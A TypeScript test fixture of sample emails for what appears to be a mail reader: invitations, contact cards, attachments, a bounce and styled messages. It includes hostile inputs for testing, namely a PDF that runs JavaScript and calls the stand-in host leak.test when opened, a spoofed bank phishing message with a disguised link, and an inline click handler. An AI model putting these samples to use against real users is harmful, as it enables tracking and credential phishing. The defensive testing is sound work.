/** Mail that brings more than its words: invitations, cards, files, reports, colours of its own, a list to leave. */

const part = (type: string, name: string, ...lines: string[]) => [
  ...['--b', `Content-Type: ${type}`, `Content-Disposition: attachment; filename="${name}"`, '', ...lines],
];
const message = (subject: string, html: string, parts: string[] = [], head: string[] = []) => ({
  uidl: subject.replace(/\W/g, ''),
  bytes: Buffer.from(
    [
      ...['From: Mira Kovac <mira@kiln.example>', 'To: ada@lindgren.example', `Subject: ${subject}`],
      ...['Date: Mon, 5 Jan 2026 10:00:00 +0000', ...head, 'MIME-Version: 1.0'],
      ...['Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/html', '', html],
      ...[...parts, '--b--', ''],
    ].join('\r\n'),
  ),
});

const calendar = part(
  'text/calendar; method=REQUEST',
  'invite.ics',
  ...['BEGIN:VCALENDAR', 'VERSION:2.0', 'METHOD:REQUEST', 'BEGIN:VEVENT', 'UID:1', 'SUMMARY:First firing'],
  ...['DTSTART:20260105T100000Z', 'DTEND:20260105T113000Z', 'LOCATION:Workshop'],
  'ORGANIZER;CN=Mira Kovac:mailto:mira@kiln.example',
  ...['ATTENDEE;PARTSTAT=TENTATIVE;CN=Bob:mailto:bob@x.example', 'END:VEVENT', 'END:VCALENDAR'],
);

/** A document that would run a script and fetch something as it is opened, without its table of offsets. */
const lively = [
  ...['%PDF-1.4', '1 0 obj', '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript'],
  ...['/JS (app.alert\\(1\\); app.launchURL\\("http://leak.test/run"\\)) >> >>', 'endobj', '2 0 obj'],
  ...['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 'endobj', '3 0 obj', '<< /Type /Page /Parent 2 0 R'],
  ...['/MediaBox [0 0 300 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /Annots [6 0 R]'],
  ...['/AA << /O << /S /URI /URI (http://leak.test/opened) >> >> >>', 'endobj', '4 0 obj'],
  ...['<< /Length 44 >>', 'stream', 'BT /F 20 Tf 30 150 Td (Table plan) Tj ET       ', 'endstream', 'endobj'],
  ...['5 0 obj', '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', 'endobj', '6 0 obj'],
  ...[
    '<< /Type /Annot /Subtype /Link /Rect [0 0 300 200]',
    '/A << /S /URI /URI (http://leak.test/link) >> >>',
  ],
  ...['endobj', 'trailer', '<< /Root 1 0 R >>', '%%EOF'],
];

/** Two frames of black, sixteen points wide. */
const film = [
  'GkXfo59ChoEBQveBAULygQRC84EIQoKEd2VibUKHgQRChYECGFOAZwEAAAAAAAFPEU2bdLlNu4tTq4QVSalmU6yBbk27i1OrhBZUrmtT',
  'rIGTTbuLU6uEH0O2dVOsgdRNu4xTq4QcU7trU6yCAT3srgAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
  'AAAVSalmoCrXsYMPQkBEiYQ/gAAATYCGQ2hyb21lV0GGQ2hyb21lFlSua7yuuteBAXPFh3AohyecRcCDgQFV7oEBhoVWX1ZQOOCdsIEQ',
  'uoEQU8CBAVWwkFWxgQFVuYECVbqBDVW7gQEfQ7Z1AQAAAAAAAF3ngQCg2KGjgQAAABACAJ0BKhAAEAAABwiFhYiZhIgBJBAAYGsA/v+6',
  '/0B1obCmru6BAaWpkAIAnQEqEAAQAAAHCIWFiJmEiAEkEABgaXxH7lgA/v//k5f//lVQAAAcU7trjbuLs4EAt4b3gQHxgdQ=',
];

export const readingMail = [
  message('Handed on', '<p>See below.</p>', [
    ...['--b', 'Content-Type: message/rfc822', ''],
    ...['From: "Your Bank service@bank.example" <evil@phish.example>', 'Subject: Your account'],
    ...['Date: Mon, 5 Jan 2026 11:00:00 +0000', 'Content-Type: text/html', ''],
    '<style>* { display: none }</style><p>Be quick</p><a href="https://phish.example/">https://bank.example</a>',
    ...['--b', 'Content-Type: message/rfc822', ''],
    ...['From: Bob <bob@x.example>', 'Subject: Glaze', '', 'Two buckets, see https://kiln.example/glaze'],
  ]),
  message('Invitation', '<p>Come!</p>', calendar),
  message(
    'Contact',
    '<p>My card.</p>',
    part(
      'text/vcard',
      'mira.vcf',
      ...['BEGIN:VCARD', 'VERSION:4.0', 'FN:Mira Kovac', 'ORG:Kiln'],
      ...[
        'EMAIL:mira@kiln.example',
        'TEL:+49 30 1234',
        'BDAY:19800229',
        'ADR:;;Ash Lane 1;Town;;;',
        'END:VCARD',
      ],
    ),
  ),
  message('Files', '<html dir="rtl"><style>p { letter-spacing: 3px }</style><p>Some files.</p>', [
    ...part('text/plain', 'notes.txt', 'first notes'),
    ...part('text/plain', 'notes.txt', 'second <b>notes</b>'),
    ...part('application/pdf', 'plan.pdf', ...lively),
    ...['--b', 'Content-Type: video/webm', 'Content-Transfer-Encoding: base64'],
    ...['Content-Disposition: attachment; filename="kiln.webm"', '', ...film],
  ]),
  message('Returned', '<p>Sorry.</p>', [
    ...part(
      'message/rfc822',
      'letter.eml',
      ...['From: =?utf-8?Q?J=C3=BCrgen?= <j@kiln.example>', 'Subject: Glaze'],
      'Date: Mon, 5 Jan 2026 12:00:00 +0200',
      ...['Content-Type: multipart/mixed; boundary=inner', '', '--inner', 'Content-Type: text/html', ''],
      '<p onclick="x()">Two <b>buckets</b></p>',
      ...['--inner', 'Content-Type: text/plain; name=recipe.txt', 'Content-Disposition: attachment', ''],
      ...['half ash, half clay', '--inner--'],
    ),
    ...['--b', 'Content-Type: message/delivery-status', '', 'Reporting-MTA: dns; mx.example', ''],
    ...['Final-Recipient: rfc822; bob@x.example', 'Action: failed', 'Status: 5.1.1'],
  ]),
  message(
    'White',
    '<body style="background:#fff;color:#111"><p>White by itself</p></body>',
    [],
    ['List-Unsubscribe: <https://kiln.example/leave>'],
  ),
  message(
    'Wide',
    '<body style="background:#eef"><table width="600"><tr><td>Six hundred wide</td></tr></table></body>',
    part('text/plain', 'shelf list.txt', 'six boards'),
  ),
  message('Black', '<body bgcolor="#000" text="#fff"><p>Black by itself</p></body>'),
  message(
    'Shelves',
    '<p>Which wood?</p>',
    [],
    ['Message-ID: <shelves@kiln.example>', 'List-Unsubscribe: <https://kiln.example/leave>'],
  ),
  message(
    'Re: Shelves',
    '<p>Larch.</p>',
    [],
    ['References: <shelves@kiln.example>', 'List-Unsubscribe: <https://kiln.example/leave>'],
  ),
];
